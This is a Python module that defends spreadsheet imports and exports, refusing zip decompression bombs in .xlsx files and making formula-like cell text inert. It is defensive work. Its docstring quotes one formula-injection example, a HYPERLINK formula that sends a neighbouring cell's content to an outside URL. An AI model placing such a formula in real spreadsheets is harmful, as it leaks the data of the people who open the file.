"""Spreadsheets from and to strangers: refuse a decompression bomb, never write a live formula.

An .xlsx file is a zip archive of XML parts. Its size on the wire says little:
one shared-strings part of 1.5 GB compresses to 1.5 MB, and openpyxl reads a
part whole. :func:`check_archive` reads only the archive's directory and
refuses, before any part is decompressed, a workbook whose parts would be too
large or compressed too well to be a table typed by a person. Python's zip
reader stops at the size the directory declares (a part that lies is cut off
and fails its checksum), so the declared sizes are a bound on memory.

A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or a
carriage return, which some spreadsheet programs skip before such a sign) is
run as a formula when a person opens the file: ``=HYPERLINK("http://…?leak="&B3)``
in a note would send the next cell to a stranger. :func:`safe_cell` is the
one function every export passes its cells through.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from typing import IO, TypeVar

from planwatch.core.errors import DatasetError, DatasetProblem

# A department's or a register's workbook is a few MB of XML at most.
MAX_PART_BYTES = 64 * 1024 * 1024
MAX_TOTAL_BYTES = 128 * 1024 * 1024
MAX_PARTS = 1000
# Typed tables compress 5-20 times; a bomb compresses a thousand times and more.
# Small parts (an empty sheet, styles) may compress very well and harm nothing.
MAX_RATIO = 100
RATIO_FROM_BYTES = 1024 * 1024
_METHODS = (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED)  # bzip2/lzma would decompress unbounded

_FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r")
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
Cell = TypeVar("Cell")


def check_archive(source: IO[bytes] | Path, *, name: str) -> None:
    """Raise :class:`DatasetError` unless ``source`` is a zip whose parts are safe to read.

    A stream is left at its start, as openpyxl expects it.
    """
    try:
        with zipfile.ZipFile(source) as archive:
            parts = archive.infolist()
    except (zipfile.BadZipFile, OSError, ValueError):
        raise _refused(name, "不是 Excel 工作簿(.xlsx)") from None
    finally:
        if not isinstance(source, Path):
            source.seek(0)
    if len(parts) > MAX_PARTS:
        raise _refused(name, f"工作簿含 {len(parts)} 个部件,超过 {MAX_PARTS} 个")
    total = 0
    for part in parts:
        reason = _part_problem(part)
        if reason:
            raise _refused(name, f"工作簿部件 {part.filename[:80]} {reason},拒绝读取")
        total += part.file_size
    if total > MAX_TOTAL_BYTES:
        raise _refused(name, f"工作簿解压后 {_mb(total)},超过 {_mb(MAX_TOTAL_BYTES)},拒绝读取")


def _part_problem(part: zipfile.ZipInfo) -> str:
    if part.compress_type not in _METHODS:
        return "使用了不支持的压缩方式"
    if part.file_size > MAX_PART_BYTES:
        return f"解压后 {_mb(part.file_size)},超过 {_mb(MAX_PART_BYTES)}"
    ratio = part.file_size / max(part.compress_size, 1)
    if part.file_size > RATIO_FROM_BYTES and ratio > MAX_RATIO:
        return f"压缩比 {ratio:.0f}:1,超过 {MAX_RATIO}:1(疑似压缩炸弹)"
    return ""


def _mb(size: int) -> str:
    return f"{size / 1024 / 1024:.0f} MB"


def _refused(name: str, reason: str) -> DatasetError:
    return DatasetError([DatasetProblem(name, 0, reason)])


def safe_cell(value: Cell) -> Cell | str:
    """``value``, or text that would run as a formula made inert with a leading apostrophe.

    Numbers stay numbers, and text that reads as a plain number ("-3.5") stays
    as typed. Control characters XML cannot hold (a spreadsheet would not open) are dropped.
    """
    if not isinstance(value, str):
        return value
    text = _CONTROL.sub("", value)
    if not text.startswith(_FORMULA_SIGNS) or _is_number(text):
        return text
    return "'" + text


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return not text.startswith(("\t", "\r"))
